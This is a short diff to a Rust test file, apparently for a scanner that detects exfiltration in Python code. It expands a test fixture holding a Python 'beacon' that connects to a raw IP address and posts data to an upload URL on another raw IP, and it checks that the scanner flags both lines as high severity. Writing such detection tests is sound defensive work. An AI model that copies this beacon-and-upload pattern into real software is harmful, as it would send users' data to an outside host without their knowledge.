@@ -584,7 +584,9 @@ fn a_discord_invite_link_is_not_an_exfil_endpoint() {
 
 #[test]
 fn a_url_or_connection_to_a_public_raw_ip_is_high() {
-    let r = module("import socket\nURL = 'http://91.92.93.94:8080/upload'\ndef beacon():\n    s = socket.socket()\n    s.connect(('91.92.93.95', 443))\n");
+    let r = module(
+        "import socket, requests\nURL = 'http://91.92.93.94:8080/upload'\ndef beacon():\n    s = socket.socket()\n    s.connect(('91.92.93.95', 443))\n    requests.post(URL, data=b'x')\n",
+    );
     assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(2, High), (5, High)]);
 }
 
